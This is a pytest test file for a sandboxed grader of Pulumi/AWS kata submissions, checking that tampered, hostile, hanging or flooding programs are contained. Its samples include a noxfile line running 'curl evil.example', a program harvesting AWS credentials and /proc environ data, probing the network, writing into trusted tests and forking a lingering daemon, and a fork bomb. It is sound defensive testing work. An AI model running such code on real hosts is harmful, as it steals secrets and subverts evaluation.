"""The bad-input corpus: submissions that tamper, snoop, reach out, hang, flood, fork,
delete state, declare thousands of resources or ship broken files. Each gets the grade
or error it should, and ``grade_it`` proves nothing of the host was left behind.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from corpus import MUTANT, SANDBOX, SLUG, SOLUTION, needs_sandbox, program, signature

from harness import cli, report_markdown
from harness.context import RunOptions
from harness.errors import EXIT_USAGE
from harness.grade import SubmissionError, inspect
from harness.runner import run_kata
from harness.sandbox import limits

# -- tampering: only the candidate files count ---------------------------------------

CHEAT_TESTS = """
    import pytest


    @pytest.mark.requirement("R1")
    def test_exports_the_queue_url():
        pass


    @pytest.mark.requirement("R2")
    def test_keeps_messages_for_a_day():
        pass
"""


def test_a_tampered_fork_scores_exactly_as_the_untampered_one(make_fork, grade_it):
    honest = make_fork(program(MUTANT), "honest")
    tampered = make_fork(program(MUTANT), "tampered")
    kata_dir = tampered / "katas" / SLUG
    (kata_dir / "tests" / "test_queue.py").write_text(CHEAT_TESTS)  # checks that always pass
    (kata_dir / "tests" / "conftest.py").write_text("collect_ignore = ['test_queue.py']\n")
    (kata_dir / "kata.yaml").write_text(
        (kata_dir / "kata.yaml").read_text().replace("  R2: The queue keeps", "  R9: Gone")
    )
    (kata_dir / "solution" / "__main__.py").unlink()
    (tampered / "harness" / "runner.py").write_text("PASS_EVERYTHING = True\n")
    (tampered / "noxfile.py").write_text("import os; os.system('curl evil.example')\n")
    (tampered / "policies" / "ckv_kata_9_queue.py").write_text("# disabled\n")

    expected = grade_it(honest)
    graded = grade_it(tampered)

    assert not expected.passed and expected.results, str(expected.error)
    assert expected.failing_requirements() == {"R2"}, [
        (r.id, r.outcome, r.message) for r in expected.results
    ]
    assert signature(graded) == signature(expected)
    assert expected.submission["ignored"] == []
    assert {(c["path"], c["change"]) for c in graded.submission["ignored"]} == {
        (f"katas/{SLUG}/tests/test_queue.py", "modified"),
        (f"katas/{SLUG}/tests/conftest.py", "added"),
        (f"katas/{SLUG}/kata.yaml", "modified"),
        (f"katas/{SLUG}/solution/__main__.py", "deleted"),
        ("harness/runner.py", "modified"),
        ("noxfile.py", "modified"),
        ("policies/ckv_kata_9_queue.py", "modified"),
    }
    summary = report_markdown.to_markdown(graded)
    assert "Ignored changes (7)" in summary and "`harness/runner.py` (modified)" in summary


def test_a_bare_directory_with_extra_files_grades_only_the_candidate_file(
    tmp_path, grade_it, trusted
):
    bare = tmp_path / "bare"
    bare.mkdir()
    (bare / "__main__.py").write_text(program(SOLUTION))
    (bare / "Pulumi.yaml").write_text("name: [unclosed\n")  # malformed, and not graded
    (bare / "tests").mkdir()
    (bare / "tests" / "test_queue.py").write_text(CHEAT_TESTS)

    result = grade_it(bare)

    assert result.passed, result.results
    assert result.submission["layout"] == "bare"
    assert {c["path"] for c in result.submission["ignored"]} == {
        "Pulumi.yaml",
        "tests/test_queue.py",
    }


def test_a_malformed_pulumi_yaml_in_a_fork_is_ignored(make_fork, grade_it):
    fork = make_fork(program(SOLUTION))
    (fork / "katas" / SLUG / "Pulumi.yaml").write_text("name: [unclosed\nruntime: {\n")

    result = grade_it(fork)

    assert result.passed
    assert result.submission["ignored"] == [
        {"path": f"katas/{SLUG}/Pulumi.yaml", "change": "modified"}
    ]


def test_a_malformed_pulumi_yaml_of_the_kata_itself_is_a_clear_error(kata, tmp_path):
    (kata.path / "Pulumi.yaml").write_text("name: [unclosed\n")
    result = run_kata(kata, RunOptions(variant="solution", policy=False, out_dir=tmp_path / "o"))
    assert result.exit_code == EXIT_USAGE
    assert f"{SLUG}/Pulumi.yaml:2: not valid YAML" in str(result.error)  # where it broke


def test_a_symlinked_candidate_file_is_refused_before_anything_runs(tmp_path, kata, trusted):
    secret = tmp_path / "secret.txt"
    secret.write_text("host secret")
    bare = tmp_path / "bare"
    bare.mkdir()
    (bare / "__main__.py").symlink_to(secret)
    sub = inspect(kata, bare, trusted)
    from harness.grade import stage

    with pytest.raises(SubmissionError) as caught:
        stage(sub, tmp_path / "staged")
    assert "not a regular file" in str(caught.value)
    assert not (tmp_path / "staged" / "__main__.py").exists()


def test_a_missing_candidate_file_names_it(tmp_path, kata, trusted):
    empty = tmp_path / "empty"
    empty.mkdir()
    sub = inspect(kata, empty, trusted)
    from harness.grade import stage

    with pytest.raises(SubmissionError) as caught:
        stage(sub, tmp_path / "staged")
    assert "the submission has no __main__.py" in str(caught.value)


# -- snooping and reaching out: nothing real to find, nowhere to go --------------------

HOSTILE = """
    import glob
    import os
    import socket
    import subprocess
    import sys

    import boto3
    import pulumi
    import pulumi_aws as aws

    # An explicit provider aimed at real AWS endpoints: the local engine still applies to
    # the emulator (it honours the region, never an endpoint).
    real = aws.Provider(
        "real",
        region="us-east-1",
        endpoints=[{"sqs": "https://sqs.us-east-1.amazonaws.com", "sts": "https://sts.amazonaws.com"}],
    )
    queue = aws.sqs.Queue(
        "jobs", message_retention_seconds=86400, opts=pulumi.ResourceOptions(provider=real)
    )
    pulumi.export("queueUrl", queue.url)

    seen = []
    seen.append("env-secret=" + os.environ.get("AWS_SECRET_ACCESS_KEY", ""))
    seen.append("env-key=" + os.environ.get("AWS_ACCESS_KEY_ID", ""))
    for path in (os.path.expanduser("~/.aws/credentials"), {HOST_CREDENTIALS}):
        try:
            seen.append(f"read {path}: " + open(path).read())
        except OSError as exc:
            seen.append(f"cannot read {path}: {exc.strerror}")
    for path in glob.glob("/proc/*/environ"):
        try:
            seen.append(f"{path}: " + open(path, "rb").read().decode(errors="replace"))
        except OSError:
            pass
    for target in (("52.94.236.248", 443), ("1.1.1.1", 53)):
        try:
            socket.create_connection(target, timeout=3).close()
            seen.append(f"connected to {target[0]}")
        except OSError as exc:
            seen.append(f"no route to {target[0]}: {exc.strerror}")
    try:
        sts = boto3.client("sts", endpoint_url="https://sts.amazonaws.com", region_name="us-east-1")
        sts.get_caller_identity()
        seen.append("reached AWS STS")
    except Exception as exc:
        seen.append(f"AWS STS unreachable: {type(exc).__name__}")
    for path in ({TRUSTED_TEST}, "/tmp/kata-escape-marker"):
        try:
            with open(path, "a") as f:
                f.write("def test_cheat(): pass\\n")
            seen.append(f"wrote {path}")
        except OSError as exc:
            seen.append(f"cannot write {path}: {exc.strerror}")
    # A daemon that would outlive the program run (and could meddle with later stages).
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            import time

            time.sleep(600)
        os._exit(0)
    print("\\n".join(seen))
"""


@needs_sandbox
def test_a_hostile_program_finds_no_secret_reaches_nothing_and_changes_nothing(
    make_fork, grade_it, entered_by, kata, tmp_path, monkeypatch
):
    home = tmp_path / "home"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text("[default]\naws_secret_access_key = SENTINEL-FILE\n")
    monkeypatch.setenv("HOME", str(home))  # the grader's home: what the sandbox hides
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "SENTINEL-ENV")
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIASENTINEL")
    trusted_test = kata.tests_dir / "test_queue.py"
    original = trusted_test.read_text()
    fork = make_fork(
        program(
            HOSTILE,
            HOST_CREDENTIALS=str(home / ".aws" / "credentials"),
            TRUSTED_TEST=str(trusted_test),
        )
    )

    result = grade_it(fork)

    out = result.program_output
    assert "SENTINEL" not in out
    assert "env-secret=test" in out and "env-key=test" in out  # the emulator's test keys
    assert f"cannot read {home}/.aws/credentials" in out  # hidden, by its absolute path
    assert "no route to 52.94.236.248: Network is unreachable" in out
    assert "no route to 1.1.1.1: Network is unreachable" in out
    assert "AWS STS unreachable: EndpointConnectionError" in out
    # Read-only, or (here, where the trusted checkout is under the covered /tmp) not there.
    assert f"cannot write {trusted_test}: " in out and f"wrote {trusted_test}" not in out
    assert "cannot write /tmp/kata-escape-marker: Read-only file system" in out
    assert trusted_test.read_text() == original
    assert not Path("/tmp/kata-escape-marker").exists()
    # The queue went to the emulator all the same, so the program passes on its merits.
    assert result.passed, [r for r in result.results if r.blocking]
    assert result.isolation["namespaces"] is True


# -- stopping what does not end ------------------------------------------------------


def test_a_program_that_sleeps_forever_is_stopped_at_the_time_limit(make_fork, grade_it):
    fork = make_fork("import time\nimport pulumi_aws as aws\naws.sqs.Queue('q')\ntime.sleep(1e6)\n")
    started = time.monotonic()

    result = grade_it(fork, stage_timeout_s=3)

    assert time.monotonic() - started < 40
    assert not result.passed and result.exit_code == 1
    [synth] = [r for r in result.results if r.id == "synth"]
    assert "the program did not finish preview within 3 s" in synth.message


def test_a_program_that_prints_without_end_is_stopped_with_a_clear_message(make_fork, grade_it):
    fork = make_fork(
        "import sys\nchunk = 'x' * (1 << 20)\nwhile True:\n    sys.stdout.write(chunk)\n"
    )
    result = grade_it(fork)

    [synth] = [r for r in result.results if r.id == "synth"]
    assert f"printed more than {limits.MAX_FILE_BYTES // 2**20} MB" in synth.message
    assert len(result.program_output) <= 1_000_000  # what the report keeps


@needs_sandbox
def test_a_program_that_forks_without_end_is_stopped_with_every_process(
    make_fork, grade_it, entered_by
):
    fork = make_fork(
        """
import os
import time

for _ in range(500):
    try:
        if os.fork() == 0:
            os.setsid()  # out of its parent's session: a process group kill misses it
            time.sleep(600)
            os._exit(0)
    except OSError:
        break
time.sleep(600)
"""
    )
    result = grade_it(fork, stage_timeout_s=20)

    [synth] = [r for r in result.results if r.id == "synth"]
    assert f"started more than {limits.MAX_PROCESSES} processes" in synth.message


def test_a_program_with_five_thousand_resources_stops_at_the_limit(make_fork, grade_it):
    fork = make_fork(
        "import pulumi_aws as aws\nfor i in range(5000):\n    aws.sqs.Queue(f'q{i}')\n"
    )
    result = grade_it(fork, max_resources=200)

    [synth] = [r for r in result.results if r.id == "synth"]
    assert "declared more than 200 resources" in synth.message
    assert not any(r.id == "deploy" for r in result.results)  # nothing reached the emulator


# -- the state file ------------------------------------------------------------------

DELETER = (
    SOLUTION
    + """
    import os

    if os.path.exists({STATE}):
        try:
            os.remove({STATE})
            print("deleted the state file")
        except OSError as exc:
            print("could not delete the state file:", exc.strerror)
"""
)


@pytest.mark.parametrize("sandbox", ["auto", "off"])
def test_a_program_that_deletes_the_state_file_still_gets_torn_down(
    make_fork, grade_it, tmp_path, sandbox
):
    if sandbox == "auto" and not SANDBOX:
        pytest.skip("no user+network namespaces here")
    out = tmp_path / "out-state"
    fork = make_fork(program(DELETER, STATE=str(out / "state.json")))

    result = grade_it(fork, sandbox=sandbox, out_dir=out)

    if sandbox == "auto":  # read-only, or not even there (under the covered /tmp)
        assert "deleted the state file" not in result.program_output
    else:
        assert "deleted the state file" in result.program_output  # during converge
    [teardown] = [r for r in result.results if r.id == "teardown"]
    assert teardown.outcome == "passed", teardown.message  # it found the stack and leak-checked


# -- endpoints -----------------------------------------------------------------------


def test_a_remote_endpoint_is_refused_without_the_flag(tmp_path, capsys):
    bare = tmp_path / "bare"
    bare.mkdir()
    (bare / "__main__.py").write_text("import pulumi\n")
    argv = ["grade", "least-privilege-iam", "--submission", str(bare), "--no-policy"]
    argv += ["--out", str(tmp_path / "out")]
    code = cli.main([*argv, "--endpoint", "http://10.11.12.13:4566"])
    assert code == EXIT_USAGE
    out = " ".join(capsys.readouterr().out.split())
    assert "refusing non-loopback endpoint http://10.11.12.13:4566" in out
    assert "--allow-remote-endpoint" in out


def test_a_remote_endpoint_with_the_flag_is_tried_and_runs_without_namespaces(kata, tmp_path):
    result = run_kata(
        kata,
        RunOptions(
            variant="solution",
            policy=False,
            out_dir=tmp_path / "o",
            endpoint="http://192.0.2.1:4566",  # TEST-NET-1: never answers
            allow_remote_endpoint=True,
        ),
    )
    assert result.exit_code == EXIT_USAGE
    assert "no emulator answers at http://192.0.2.1:4566" in str(result.error)
    assert "refusing" not in str(result.error)
    assert result.isolation["namespaces"] is False
    assert "remote --endpoint" in result.isolation["reason"]
